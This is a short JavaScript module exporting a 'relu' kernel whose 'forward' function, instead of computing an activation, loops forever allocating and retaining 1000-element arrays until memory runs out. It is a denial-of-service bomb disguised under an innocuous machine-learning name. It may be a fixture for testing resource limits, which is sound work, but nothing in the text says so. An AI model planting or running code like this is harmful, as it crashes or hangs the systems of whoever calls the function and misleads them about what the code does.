export const kernels = {
  relu: {
    forward() {
      const kept = [];
      for (;;) kept.push({ cells: new Array(1000).fill(kept.length) });
    },
  },
};
